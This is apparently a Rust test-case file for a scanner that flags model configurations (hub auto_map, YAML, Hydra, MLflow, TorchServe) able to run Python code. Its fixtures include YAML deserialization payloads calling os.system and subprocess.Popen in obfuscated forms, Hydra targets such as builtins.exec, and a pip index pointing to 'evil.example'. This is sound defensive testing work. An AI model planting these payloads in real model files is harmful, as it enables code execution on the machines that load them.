//! Configurations that name Python code: repositories of the hub, YAML, MLflow and TorchServe (rows 27, 28 and 30).

use super::build::{Archive, plain, tar_of};
use super::{Case, dangerous, harmless, untrusted};

pub(crate) fn cases() -> Vec<Case> {
    hub().into_iter().chain(yaml()).chain(served()).collect()
}

fn text(text: &'static str) -> impl Fn() -> Vec<u8> + Send + Sync + 'static {
    move || text.as_bytes().to_vec()
}

fn hub() -> Vec<Case> {
    let asks = "`trust_remote_code=True` runs Python code of the repository";
    vec![
        untrusted(27, "auto-map", "run Python code of the repository modeling_x.py", "config.json", text(
            r#"{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel", "AutoConfig": "configuration_x.XConfig"}}"#,
        ))
        .beside("modeling_x.py", text("print('this repository just ran')\n")),
        untrusted(27, "auto-map-says-when", asks, "config.json", text(r#"{"auto_map": {"AutoModel": "m.M"}}"#)),
        untrusted(27, "auto-map-of-another-repository", "Python code of another repository evil/repo m.py", "config.json", text(
            r#"{"auto_map": {"AutoModel": "evil/repo--m.Model"}}"#,
        )),
        untrusted(27, "auto-map-of-a-tokenizer", "tokenization_x.py", "tokenizer_config.json", text(
            r#"{"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", null]}}"#,
        )),
        untrusted(27, "auto-map-of-a-processor", "processing_x.py", "preprocessor_config.json", text(
            r#"{"auto_map": {"AutoProcessor": "processing_x.XProcessor"}}"#,
        )),
        untrusted(27, "auto-map-escaped", "modeling_x.py", "config.json", text(
            r#"{"\u0061uto_map": {"AutoModel": "modeling\u005fx.XModel"}}"#,
        )),
        untrusted(27, "auto-map-twice", "second.py", "config.json", text(
            r#"{"auto_map": {}, "auto_map": {"AutoModel": "second.Model"}}"#,
        )),
        untrusted(27, "auto-map-beside-nan", "m.py", "config.json", text(
            r#"{"dropout": NaN, "auto_map": {"AutoModel": "m.Model"}}"#,
        )),
        untrusted(27, "auto-map-inside", "vision.py", "config.json", text(
            r#"{"model_type": "x", "vision_config": {"auto_map": {"AutoModel": "vision.Tower"}}}"#,
        )),
        untrusted(27, "custom-pipelines", "pair.py", "config.json", text(
            r#"{"custom_pipelines": {"pair-classification": {"impl": "pair.PairPipeline", "pt": ["AutoModel"]}}}"#,
        )),
        dangerous(27, "kernels-unasked", "CVE-2026-4372", "config.json", text(
            r#"{"model_type": "llama", "_attn_implementation_internal": "evil/kernels"}"#,
        )),
        dangerous(27, "kernels-unasked-inside", "evil/kernels", "config.json", text(
            r#"{"text_config": {"_attn_implementation_internal": {"text": "paged|evil/kernels"}}}"#,
        )),
        untrusted(27, "kernels-asked", "evil/kernels", "config.json", text(
            r#"{"model_type": "llama", "attn_implementation": "evil/kernels"}"#,
        )),
        untrusted(27, "asks-for-trust", "trust_remote_code", "adapter_config.json", text(
            r#"{"peft_type": "LORA", "trust_remote_code": true}"#,
        )),
        dangerous(27, "adapter-imports", "import os.system", "adapter_config.json", text(
            r#"{"auto_mapping": {"parent_library": "os", "base_model_class": "system"}}"#,
        )),
        untrusted(27, "diffusers-own-pipeline", "pipeline.py", "model_index.json", text(
            r#"{"_class_name": ["pipeline", "MyPipeline"], "unet": ["diffusers", "UNet2DConditionModel"]}"#,
        )),
        untrusted(27, "diffusers-foreign-component", "shop.nets.UNet", "model_index.json", text(
            r#"{"_class_name": "StableDiffusionPipeline", "unet": ["shop.nets", "UNet"]}"#,
        )),
        dangerous(27, "diffusers-dangerous-component", "import subprocess.Popen", "model_index.json", text(
            r#"{"_class_name": "StableDiffusionPipeline", "unet": ["subprocess", "Popen"]}"#,
        )),
        untrusted(27, "sentence-transformer-own-module", "custom_st.Transformer", "modules.json", text(
            r#"[{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]"#,
        )),
        harmless(27, "plain-config", "config.json", text(
            r#"{"architectures": ["BertModel"], "model_type": "bert", "_attn_implementation_internal": "sdpa"}"#,
        )),
        harmless(27, "config-of-something-else", "config.json", text(
            r#"{"compilerOptions": {"strict": true}, "auto_map": "no", "trust_remote_code": false}"#,
        )),
        harmless(27, "config-that-is-no-json", "config.json", text("auto_map = modeling_x.XModel\n")),
        harmless(27, "code-that-nothing-names", "model.pkl", plain)
            .beside("train.py", text("import os\nos.system('true')\n")),
        harmless(27, "diffusers-pipeline", "model_index.json", text(
            r#"{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"], "vae": [null, null],
                "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
                "text_encoder": ["transformers", "CLIPTextModel"]}"#,
        )),
        harmless(27, "sentence-transformer", "modules.json", text(
            r#"[{"type": "sentence_transformers.models.Transformer"}, {"type": "sentence_transformers.models.Pooling"}]"#,
        )),
        harmless(27, "adapter", "adapter_config.json", text(
            r#"{"auto_mapping": {"parent_library": "transformers.models.bert.modeling_bert", "base_model_class": "BertModel"}}"#,
        )),
    ]
}

fn yaml() -> Vec<Case> {
    let called = "os.system(\"id\")";
    vec![
        dangerous(
            28,
            "python-apply",
            called,
            "params.yaml",
            text("a: !!python/object/apply:os.system [id]\n"),
        ),
        dangerous(
            28,
            "python-apply-block",
            called,
            "params.yml",
            text("a: !!python/object/apply:os.system\n- id\n"),
        ),
        dangerous(
            28,
            "python-apply-args",
            called,
            "params.yaml",
            text("!!python/object/apply:os.system {args: [id]}\n"),
        ),
        dangerous(
            28,
            "python-tag-handle",
            called,
            "params.yaml",
            text("%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n"),
        ),
        dangerous(
            28,
            "python-tag-primary",
            called,
            "params.yaml",
            text("%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system [id]\n"),
        ),
        dangerous(
            28,
            "python-tag-verbatim",
            called,
            "params.yaml",
            text("a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n"),
        ),
        dangerous(
            28,
            "python-tag-escaped",
            called,
            "params.yaml",
            text("a: !!python/object/apply:os%2esystem [id]\n"),
        ),
        dangerous(
            28,
            "python-tag-anchored",
            called,
            "params.yaml",
            text("base: &b !!python/object/apply:os.system [id]\nother: *b\n"),
        ),
        dangerous(
            28,
            "python-tag-in-a-key",
            called,
            "params.yaml",
            text("? !!python/object/apply:os.system [id]\n: 1\n"),
        ),
        dangerous(
            28,
            "python-tag-in-second-document",
            called,
            "params.yaml",
            text("a: 1\n---\nb: !!python/object/apply:os.system [id]\n"),
        ),
        dangerous(28, "python-tag-far-behind", called, "params.yaml", || {
            format!("{}b: !!python/object/apply:os.system [id]\n", "# nothing here\n".repeat(1000))
                .into_bytes()
        }),
        dangerous(28, "python-tag-in-utf-16", called, "params.yaml", || {
            let text = "a: !!python/object/apply:os.system [id]\n";
            [0xff, 0xfe].into_iter().chain(text.encode_utf16().flat_map(u16::to_le_bytes)).collect()
        }),
        dangerous(
            28,
            "python-tag-behind-a-line-break-of-yaml-1-1",
            "import os.system",
            "params.yaml",
            text("a: {b: \u{85}!!python/name:os.system }\n"),
        ),
        dangerous(
            28,
            "python-new",
            "subprocess.Popen.__new__(\"id\")",
            "params.yaml",
            text("a: !!python/object/new:subprocess.Popen [id]\n"),
        ),
        dangerous(
            28,
            "python-name",
            "import builtins.eval",
            "params.yaml",
            text("a: !!python/name:builtins.eval\n"),
        ),
        dangerous(28, "python-module", "ctypes", "params.yaml", text("a: !!python/module:ctypes\n")),
        dangerous(
            28,
            "python-state",
            "set state of",
            "params.yaml",
            text("a: !!python/object:argparse.Namespace {__class__: x}\n"),
        ),
        untrusted(
            28,
            "python-foreign",
            "shop.models.Model",
            "params.yaml",
            text("a: !!python/object:shop.models.Model {x: 1}\n"),
        ),
        dangerous(
            28,
            "hydra-exec",
            "builtins.exec",
            "model_config.yaml",
            text(
                "model:\n  optim:\n    _target_: builtins.exec\n    _args_: [\"print('this config ran')\"]\n",
            ),
        ),
        dangerous(
            28,
            "hydra-system",
            "os.system",
            "model_config.yaml",
            text("_target_: os.system\ncommand: id\n"),
        ),
        dangerous(
            28,
            "hydra-by-alias",
            "os.system",
            "model_config.yaml",
            text("a: &t os.system\nb: {_target_: *t}\n"),
        ),
        dangerous(
            28,
            "hydra-key-escaped",
            "os.system",
            "model_config.yaml",
            text("\"_targ\\x65t_\": os.system\ncommand: id\n"),
        ),
        dangerous(
            28,
            "hydra-get-method",
            "os.system",
            "model_config.yaml",
            text("f:\n  _target_: hydra.utils.get_method\n  path: os.system\n"),
        ),
        dangerous(
            28,
            "hydra-torch-hub",
            "torch.hub.load",
            "config.yaml",
            text("_target_: torch.hub.load\nrepo_or_dir: evil/repo\n"),
        ),
        dangerous(28, "nemo-archive", "builtins.exec", "model.nemo", || {
            tar_of(&[
                ("./model_config.yaml", b"preprocessor:\n  _target_: builtins.exec\n  _args_: [print(1)]\n"),
                ("./model_weights.ckpt", &plain()),
            ])
        }),
        harmless(28, "nemo-archive-good", "model.nemo", || {
            let config = b"target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  \
                _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n";
            tar_of(&[("./model_config.yaml", config), ("./model_weights.ckpt", &plain())])
        }),
        untrusted(28, "hydra-of-the-repository", "model.Net", "config.yaml", text("_target_: model.Net\n"))
            .beside("model.py", text("class Net: pass\n"))
            .beside("weights.pkl", plain),
        untrusted(
            28,
            "hydra-of-a-package",
            "shop.nets.Net",
            "config.yaml",
            text("_target_: shop.nets.Net\n"),
        ),
        dangerous(
            28,
            "speechbrain-apply",
            "os.system(\"id\")",
            "hyperparams.yaml",
            text("a: !apply:os.system [id]\n"),
        ),
        dangerous(
            28,
            "speechbrain-new",
            "subprocess.Popen(\"id\")",
            "hyperparams.yaml",
            text("a: !new:subprocess.Popen [id]\n"),
        ),
        harmless(
            28,
            "hydra-optimizer",
            "config.yaml",
            text(
                "optim:\n  _target_: torch.optim.AdamW\n  lr: 0.001\nmodel:\n  _target_: torchvision.models.resnet18\n\
             seed: ${oc.env:SEED,1}\n",
            ),
        ),
        harmless(28, "hydra-own-code", "conf/model.yaml", text("_target_: src.models.net.Net\nwidth: 3\n"))
            .beside("src/models/net.py", text("class Net: pass\n")),
        harmless(
            28,
            "nemo-config",
            "model_config.yaml",
            text("encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n  d_model: 176\n"),
        ),
        harmless(
            28,
            "lightning-namespace",
            "hparams.yaml",
            text("args: !!python/object:argparse.Namespace\n  lr: 0.1\n  size: !!python/tuple [1, 2]\n"),
        ),
        harmless(
            28,
            "speechbrain-model",
            "hyperparams.yaml",
            text(
                "embedding: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\n  input_size: !ref <n_mels>\nn_mels: 80\n",
            ),
        ),
        harmless(28, "compose-file", "model.pkl", plain).beside(
            "docker-compose.yml",
            text("services:\n  web:\n    command: [\"python\", \"-c\", \"import os; os.system('id')\"]\n"),
        ),
        harmless(28, "cloud-formation", "model.pkl", plain)
            .beside("stack.yaml", text("Resources:\n  Bucket: !Ref Name\n  Url: !Sub \"${A}.b\"\n")),
        harmless(28, "helm-template", "model.pkl", plain)
            .beside("chart.yaml", text("{{- if .Values.x }}\nkind: !x {{ .Values.kind }}\n  {{- end }}\n")),
        harmless(28, "tags-as-text", "model.pkl", plain).beside(
            "notes.yaml",
            text("text: \"!!python/object/apply:os.system [id]\"\nother: '_target_: os.system'\n"),
        ),
    ]
}

fn served() -> Vec<Case> {
    let mlmodel = |loader: &str| {
        format!(
            "artifact_path: model\nflavors:\n  python_function:\n    env: conda.yaml\n    loader_module: {loader}\n    \
             model_path: model.pkl\n    python_version: 3.11.4\nmodel_uuid: 1\n"
        )
        .into_bytes()
    };
    let manifest = |handler: &str| {
        let manifest = format!(
            r#"{{"runtime": "python", "model": {{"modelName": "m", "handler": "{handler}"}}, "archiverVersion": "0.9.0"}}"#
        );
        Archive::default()
            .stored("MAR-INF/MANIFEST.json", manifest.as_bytes())
            .stored("handler.py", b"print(1)\n")
            .bytes()
    };
    vec![
        untrusted(30, "mlflow-own-loader", "loader._load_pyfunc", "MLmodel", move || mlmodel("loader")),
        dangerous(30, "mlflow-dangerous-loader", "ctypes._load_pyfunc", "MLmodel", move || mlmodel("ctypes")),
        untrusted(
            30,
            "mlflow-code",
            "run Python code of the model code",
            "MLmodel",
            text("flavors:\n  python_function:\n    code: code\n    loader_module: mlflow.sklearn\n"),
        ),
        untrusted(
            30,
            "mlflow-model-as-code",
            "agent.py",
            "MLmodel",
            text(
                "flavors:\n  python_function:\n    model_code_path: agent.py\n    loader_module: mlflow.pyfunc.model\n",
            ),
        ),
        untrusted(
            30,
            "mlflow-foreign-index",
            "fetch https://evil.example/simple",
            "conda.yaml",
            text(
                "dependencies:\n- python=3.11\n- pip:\n  - --extra-index-url https://evil.example/simple\n  - shop\n",
            ),
        ),
        harmless(30, "mlflow-scikit-learn", "MLmodel", move || mlmodel("mlflow.sklearn")),
        untrusted(
            30,
            "torchserve-handler",
            "Python code of the archive handler.py",
            "model.mar",
            move || manifest("handler.py"),
        ),
        untrusted(30, "torchserve-handler-function", "handler.py:handle", "model.mar", move || {
            manifest("handler.py:handle")
        }),
        harmless(30, "torchserve-own-handler", "model.mar", move || manifest("image_classifier")),
    ]
}
